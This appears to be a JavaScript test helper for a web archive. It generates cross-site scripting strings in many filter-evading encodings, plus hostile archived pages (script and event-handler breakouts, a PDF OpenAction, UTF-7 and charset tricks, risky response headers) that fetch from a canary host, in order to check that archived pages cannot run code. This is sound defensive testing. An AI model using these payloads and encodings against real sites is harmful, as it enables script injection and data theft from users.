// Hostile strings and pages: what runs, after what ends the text it is put into, in the spellings that filters let through.
// The parts are those of the Rust tests; the spellings are written a second time.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { ROOT } from "./site.mjs";

const lines = (name) => readFileSync(join(ROOT, "crates/web/src/tests/hostile", name), "utf8").split("\n").slice(0, -1);
export const VECTORS = lines("vectors.txt");
const SINKS = lines("sinks.txt");

const marks = (text, spell) => [...text].map((c) => (`<>"'&=/:\``.includes(c) ? spell(c.codePointAt(0)) : c)).join("");
const hex = (code, length) => code.toString(16).padStart(length, "0");

const SPELLINGS = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => [...text].map((c, at) => (at % 2 ? c : c.toUpperCase())).join(""),
  (text) => marks(text, (code) => `&#${code};`),
  (text) => marks(text, (code) => `&#x${hex(code, 7)}`),
  (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;"),
  (text) => encodeURIComponent(text),
  (text) => marks(text, (code) => `\\u${hex(code, 4)}`),
  (text) => marks(text, (code) => String.fromCodePoint(code + 0xfee0)),
  (text) => text.replaceAll(" ", "/"),
  (text) => `\u202e\ufeff${text.replaceAll(">", "\u200b>")}`,
  (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-").replaceAll('"', "+ACI-"),
];

/** All strings, each once, mixed but the same on every run; every `step`th of them. `canary` is a host that must never be asked. */
export function strings(canary, step = 1) {
  const run = `fetch('//${canary}/run')`;
  const all = new Set();
  for (const vector of VECTORS) {
    for (const sink of SINKS) {
      const whole = sink + vector.replaceAll("RUN", run).replaceAll("canary.invalid", canary);
      SPELLINGS.forEach((spell) => all.add(spell(whole)));
    }
  }
  return [...all].filter((_, at) => at % step === Math.floor(at / step) % step);
}

const WORDS = "<p>The town council has bought cameras for its streets, and nobody was asked.</p>".repeat(12);
const utf16 = (text) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);

/** Pages that want to get out of the archive: each a path with headers and a body. */
export function attempts(canary) {
  const run = (what) => `fetch('//${canary}/run/${what}')`;
  const html = (body, headers = {}) => ({ headers: { "Content-Type": "text/html; charset=utf-8", ...headers }, body });
  const vectors = VECTORS.map((vector, at) => html(`${WORDS}${vector.replaceAll("RUN", run(at)).replaceAll("canary.invalid", canary)}${WORDS}`));
  const script = `<script>${run("script")}</script>`;
  const own = [
    // What our page repeats: title, language, words.
    html(`<title></title>${script}</title>${WORDS}`),
    html(`<title>&lt;/title&gt;&lt;script&gt;${run("title")}&lt;/script&gt;</title>${WORDS}`),
    html(`<html lang='en"><script>${run("lang")}</script>'>${WORDS}`),
    html(`<html lang="en&quot; onload=&quot;${run("lang2")}">${WORDS}`),
    html(`${WORDS}<p>&lt;script&gt;${run("words")}&lt;/script&gt;</p>`),
    html(`${WORDS}<p>&lt;/p&gt;&lt;/div&gt;&lt;img src=x onerror=${run("words2")}&gt;</p>`),
    html(`${WORDS}<p>&lt;/mark&gt;&lt;svg onload=${run("mark")}&gt;</p>`),
    html(`${WORDS}<pre>--&gt;&lt;script&gt;${run("pre")}&lt;/script&gt;</pre>`),
    html(`${WORDS}<textarea></textarea>${script}</textarea>`),
    html(`${WORDS}<p>\u202e\u2066&lt;script&gt;${run("bidi")}&lt;/script&gt;\u2069</p>`),
    // What a server says of its page.
    html(WORDS, { "Set-Cookie": "canary=1; Path=/" }),
    html(WORDS, { "Set-Cookie": "__Host-canary=1; Secure; Path=/; SameSite=None" }),
    html(WORDS, { Refresh: `0; url=//${canary}/refresh` }),
    html(WORDS, { Link: `<//${canary}/preload.js>; rel=preload; as=script` }),
    html(WORDS, { Link: `<//${canary}/style.css>; rel=stylesheet` }),
    html(WORDS, { "Content-Disposition": `inline; filename="x.html"` }),
    html(WORDS, { "Content-Security-Policy": `default-src * 'unsafe-inline'; report-uri //${canary}/csp` }),
    html(WORDS, { "Report-To": `{"group":"g","max_age":9,"endpoints":[{"url":"http://${canary}/report"}]}` }),
    html(WORDS, { NEL: '{"report_to":"g","max_age":9}' }),
    html(WORDS, { "Clear-Site-Data": '"*"' }),
    html(WORDS, { SourceMap: `//${canary}/map` }),
    html(WORDS, { "Service-Worker-Allowed": "/" }),
    html(WORDS, { "Access-Control-Allow-Origin": "*" }),
    html(WORDS, { "X-Frame-Options": "ALLOWALL" }),
    html(WORDS, { "Content-Location": `//${canary}/elsewhere` }),
    html(WORDS, { "Speculation-Rules": `"//${canary}/rules"` }),
    // What a page is taken for.
    { headers: { "Content-Type": "text/html; charset=utf-7" }, body: `+ADw-script+AD4-${run("utf7")}+ADw-/script+AD4-${WORDS}` },
    { headers: { "Content-Type": "text/html; charset=iso-2022-jp" }, body: `${WORDS}\x1b(J<p>\\"><script>${run("jis")}</script>` },
    { headers: { "Content-Type": "text/html" }, body: utf16(WORDS + script) },
    { headers: { "Content-Type": "text/plain" }, body: script + WORDS },
    { headers: { "Content-Type": "text/plain" }, body: `<!doctype html><html><body onload=${run("plain")}>${WORDS}` },
    { headers: { "Content-Type": "application/xhtml+xml" }, body: `<html xmlns="http://www.w3.org/1999/xhtml"><body>${WORDS}${script}</body></html>` },
    { headers: { "Content-Type": "text/xml" }, body: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="//${canary}/x.xsl"?><r>${WORDS}</r>` },
    { headers: { "Content-Type": "image/svg+xml" }, body: `<svg xmlns="http://www.w3.org/2000/svg" onload="${run("svg")}"><text>${WORDS}</text></svg>` },
    { headers: { "Content-Type": "application/json" }, body: JSON.stringify({ x: script }) },
    { headers: { "Content-Type": "text/javascript" }, body: run("javascript") },
    { headers: { "Content-Type": "text/css" }, body: `@import '//${canary}/css';` },
    { headers: { "Content-Type": "multipart/related; boundary=b" }, body: `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${script}${WORDS}\r\n--b--\r\n` },
    { headers: { "Content-Type": "application/pdf" }, body: `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(${run("pdf")})>>>>endobj\ntrailer<</Root 1 0 R>>` },
    { headers: {}, body: `${script}${WORDS}` },
  ];
  return [...vectors, ...own];
}
